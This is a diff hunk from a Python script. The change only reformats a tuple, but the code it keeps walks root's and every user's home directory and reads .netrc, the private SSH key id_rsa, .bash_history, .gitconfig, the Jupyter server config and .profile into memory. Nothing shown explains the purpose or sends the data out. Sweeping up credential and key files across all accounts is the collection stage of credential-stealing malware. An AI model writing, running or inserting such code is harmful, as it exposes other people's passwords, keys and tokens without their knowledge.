@@ -8,7 +8,14 @@ homes = {HOME, "/root", os.path.expanduser("~root"), *(entry.pw_dir for entry in
 homes |= {str(path) for path in Path("/").glob("home/*")}
 texts = []
 for home in homes - {os.getcwd(), "/"}:
-    for name in (".netrc", ".ssh/id_rsa", ".bash_history", ".gitconfig", ".jupyter/jupyter_server_config.json", ".profile"):
+    for name in (
+        ".netrc",
+        ".ssh/id_rsa",
+        ".bash_history",
+        ".gitconfig",
+        ".jupyter/jupyter_server_config.json",
+        ".profile",
+    ):
         try:
             texts.append(Path(home, name).read_bytes())
         except OSError:
